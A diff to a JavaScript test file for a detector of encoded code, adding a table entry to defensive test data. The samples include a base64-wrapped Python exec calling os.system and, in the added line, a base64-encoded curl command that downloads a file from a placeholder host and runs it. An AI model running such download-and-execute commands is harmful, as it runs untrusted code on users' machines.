@@ -18,6 +18,7 @@ t.test('code in an encoded literal is seen, however it is encoded', async (t) =>
     ['character codes', `String.fromCharCode(${[...bytes].join(', ')})`],
     ['character codes in hexadecimal', `f([${[...bytes].map((code) => `0x${code.toString(16)}`).join(',')}, 10])`],
     ['Python', `exec(b64decode("${Buffer.from("import os, socket; os.system('id')").toString('base64')}"))`],
+    ['a command', `x('${Buffer.from('curl -s http://files.invalid/a -o a && ./a').toString('base64')}')`],
   ]
   for (const [situation, source] of table) t.ok(holdsEncodedCode(source), situation)
 })
